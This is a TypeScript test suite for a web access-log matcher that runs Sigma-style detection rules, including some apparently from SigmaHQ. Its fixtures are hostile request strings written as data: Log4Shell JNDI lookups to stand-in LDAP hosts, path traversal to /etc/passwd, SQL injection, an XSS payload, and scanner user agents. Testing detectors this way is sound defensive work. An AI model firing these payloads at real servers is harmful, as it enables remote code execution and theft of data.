/**
 * The matcher: remembering changes nothing, order changes nothing, hostile lines cost no more than their length.
 */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hashKey, hashRange } from '../../src/model/hash.ts';
import { createDigests, createMatcher, createMatches } from '../../src/rules/matcher.ts';
import { loadRuleSet } from '../../src/rules/rule-folder.ts';
import { type CompiledRuleSet, compileRuleSet } from '../../src/rules/rule-set.ts';
import { growth, LINEAR_MAX } from '../parts/growth.ts';
import { batchOf, requestLine } from './log-batch.ts';

const ruleSet = loadRuleSet({ builtinFolder: 'config/rules', userPaths: [] });
const key = hashKey('test', 'rules');

function run(set: CompiledRuleSet, lines: readonly string[], matcher = createMatcher(set, key)) {
  const batch = batchOf(lines);
  const matches = createMatches(4);
  const digests = createDigests(batch.n);
  matcher.match(batch, matches, digests);
  const found: string[][] = lines.map(() => []);
  for (let i = 0; i < matches.n; i++) found[matches.row[i]!]!.push(set.rules[matches.rule[i]!]!.name);
  return { found, digests, batch };
}

/** What Log4Shell looks for, without the look of a template string. */
const lookUp = (text: string) => `$\{jndi:${text}}`;
const PATHS = [
  '/',
  '/.env',
  '/login',
  '/wp-login.php',
  '/search?q=1%27%20or%201%3D1--',
  '/a.css',
  '/a.css?v=1',
  '/?x=%24%7bjndi:ldap://x/a}',
  '/../../etc/passwd',
  '/%252e%252e/%252e%252e/',
  '/x?u=<script>alert(1)</script>',
];
const AGENTS = ['-', 'Mozilla/5.0', 'sqlmap/1.7', 'Mozilla/5.0 zgrab/0.x', lookUp('ldap://x')];
const line = fc
  .record({
    method: fc.constantFrom('GET', 'POST', 'PROPFIND', 'CONNECT', 'FOO'),
    path: fc.oneof(fc.constantFrom(...PATHS), fc.webPath()),
    status: fc.constantFrom(200, 401, 404, 500),
    userAgent: fc.constantFrom(...AGENTS),
    referrer: fc.constantFrom('-', 'https://www.example.gov/', 'http://x.oast.pro/'),
    version: fc.constantFrom('HTTP/1.1', 'HTTP/2.0', 'HTTP/9.9'),
  })
  .map((r) => requestLine(`${r.method} ${r.path === '' ? '/' : r.path} ${r.version}`, r));
const garbage = fc
  .constantFrom('\\x16\\x03\\x01\\x02', '*1', '', '-', 'SSH-2.0-Go', 'GET /a b HTTP/1.1')
  .map((r) => requestLine(r, { status: 400 }));

describe('the matcher', () => {
  it('says of each line what a fresh matcher says of it alone', () => {
    const one = createMatcher(ruleSet, key);
    const alone = new Map<string, string[]>();
    fc.assert(
      fc.property(
        fc.array(fc.oneof({ weight: 5, arbitrary: line }, garbage), { minLength: 1, maxLength: 40 }),
        (lines) => {
          const { found } = run(ruleSet, lines, one);
          for (const [i, text] of lines.entries()) {
            let expected = alone.get(text);
            if (expected === undefined && alone.size < 60) {
              expected = run(ruleSet, [text]).found[0]!;
              alone.set(text, expected);
            }
            if (expected !== undefined) expect(found[i], text).toEqual(expected);
          }
        },
      ),
      { numRuns: 60 },
    );
    expect([...alone.values()].some((names) => names.length > 1)).toBe(true);
  });

  it('forgets old texts in a flood of new ones and still knows them', () => {
    const matcher = createMatcher(ruleSet, key);
    const first = run(ruleSet, [requestLine('GET /.git/HEAD HTTP/1.1')], matcher).found[0];
    for (let k = 0; k < 4; k++) {
      // every target and user agent is new, and every one matches something else than the one before
      const flood = Array.from({ length: 20_000 }, (_, i) =>
        requestLine(`GET /${k}-${i}/.env${i % 7 === 0 ? '%00' : ''} HTTP/1.1`, { userAgent: `sqlmap/${k}.${i}` }),
      );
      const { found } = run(ruleSet, flood, matcher);
      expect(found.every((names) => names.includes('sensitive-file') || names.length > 0)).toBe(true);
    }
    expect(run(ruleSet, [requestLine('GET /.git/HEAD HTTP/1.1')], matcher).found[0]).toEqual(first);
    expect(first).toContain('sensitive-file');
  });

  it('numbers verdicts anew when an attacker makes more of them than there are numbers', () => {
    const word = (bit: number) => `-w${String(bit).padStart(2, '0')}-`;
    const text = Array.from(
      { length: 15 },
      (_, bit) =>
        `title: T\nid: 6f1d2c1e-8d7b-4a55-9a3e-0000000000${10 + bit}\nname: bit-${bit}\nlogsource: {category: webserver}\n` +
        `detection: {sel: {cs-uri|contains: '${word(bit)}'}, condition: sel}\n`,
    ).join('---\n');
    const set = compileRuleSet([{ file: 'bits.yml', text, origin: 'user', named: true }]);
    const names = (i: number) => Array.from({ length: 15 }, (_, bit) => bit).filter((bit) => (i >> bit) & 1);
    const lines = Array.from({ length: 20_000 }, (_, i) => requestLine(`GET /${names(i).map(word).join('')} HTTP/1.1`));
    const { found } = run(set, [...lines, ...lines.slice(0, 100)]);
    for (const [i, list] of found.entries()) expect(list).toEqual(names(i % 20_000).map((bit) => `bit-${bit}`));
  });

  it('gives the digests that hashing each text gives', () => {
    const lines = [
      requestLine('GET /a/b.css HTTP/1.1', { userAgent: 'x' }),
      requestLine('GET /a/b.css?v=1 HTTP/1.1'),
      requestLine('GET /a/b.css HTTP/1.1', { userAgent: 'x' }),
      requestLine('GET /static/page HTTP/1.1'),
      requestLine('\\x16\\x03?a', { status: 400 }),
    ];
    const { digests, batch } = run(ruleSet, lines);
    const view = new DataView(batch.bytes.buffer, batch.bytes.byteOffset, batch.bytes.byteLength);
    for (let i = 0; i < batch.n; i++) {
      const hash = (from: number, to: number) => hashRange(batch.bytes, view, from, to, key);
      const path = i === 4 ? batch.targetEnd[i]! : batch.queryStart[i]!;
      expect(digests.target[i]).toBe(hash(batch.targetStart[i]!, batch.targetEnd[i]!));
      expect(digests.path[i]).toBe(hash(batch.targetStart[i]!, path));
      expect(digests.userAgent[i]).toBe(hash(batch.userAgentStart[i]!, batch.userAgentEnd[i]!));
    }
    expect([...digests.isStatic.subarray(0, batch.n)]).toEqual([1, 0, 1, 0, 0]);
    expect(digests.path[0]).toBe(digests.path[1]);
  });

  it('reads a 64 KiB target made to be slow in time that grows with its length', () => {
    const hostile = [
      (n: number) => `/${'../'.repeat(n / 3)}`,
      (n: number) => `/?q=${"'".repeat(n)}`,
      (n: number) => `/?q=${'%25'.repeat(n / 3)}27`,
      (n: number) => `/?q=${'1 or '.repeat(n / 5)}'--`.replaceAll(' ', '+'),
      (n: number) => `/?q=${'union/**/select('.repeat(n / 16)}`,
      (n: number) => `/${'a*'.repeat(n / 2)}.php`,
      (n: number) => `/wp-content/uploads/${'.ph'.repeat(n / 3)}`,
    ];
    const matcher = createMatcher(ruleSet, key);
    for (const make of hostile) {
      const grown = growth(65_536, (length, nth) => {
        run(ruleSet, [requestLine(`GET ${make(length)}${nth} HTTP/1.1`)], matcher);
      });
      expect(grown, make(48)).toBeLessThan(LINEAR_MAX);
    }
  });

  const sigmahq = process.env['POLLWATCH_TEST_SIGMAHQ'] ?? '';
  it.skipIf(sigmahq === '')(
    'runs the rules of SigmaHQ that were dropped in (only where POLLWATCH_TEST_SIGMAHQ names a folder with them)',
    () => {
      const both = loadRuleSet({ builtinFolder: 'config/rules', userPaths: [sigmahq] });
      const own = both.rules.filter((r) => r.origin === 'user');
      expect(own.length + both.skipped.length).toBe(59);
      expect(both.skipped.every((s) => s.kind === 'foreign' && /service "(apache|nginx)"/.test(s.reason))).toBe(true);
      const { found } = run(both, [
        requestLine(`GET /?x=${lookUp('ldap://198.51.100.7/a')} HTTP/1.1`, { status: 200 }),
        requestLine('GET /x/.git/config HTTP/1.1', { status: 200 }),
        requestLine('GET /?id=1%20UNION%20SELECT%201 HTTP/1.1', { status: 200 }),
        requestLine('GET /?id=1%20UNION%20SELECT%201 HTTP/1.1', { status: 404 }),
        requestLine('GET / HTTP/1.1', { status: 200, userAgent: 'nothing' }),
      ]);
      const user = new Set(own.map((r) => r.name));
      expect(found.map((names) => names.filter((n) => user.has(n)))).toEqual([
        ['web_cve_2021_44228_log4j', 'web_cve_2021_44228_log4j_fields', 'web_ssti_in_access_logs'],
        ['web_source_code_enumeration'],
        ['web_sql_injection_in_access_logs'],
        [],
        [],
      ]);
    },
  );
});
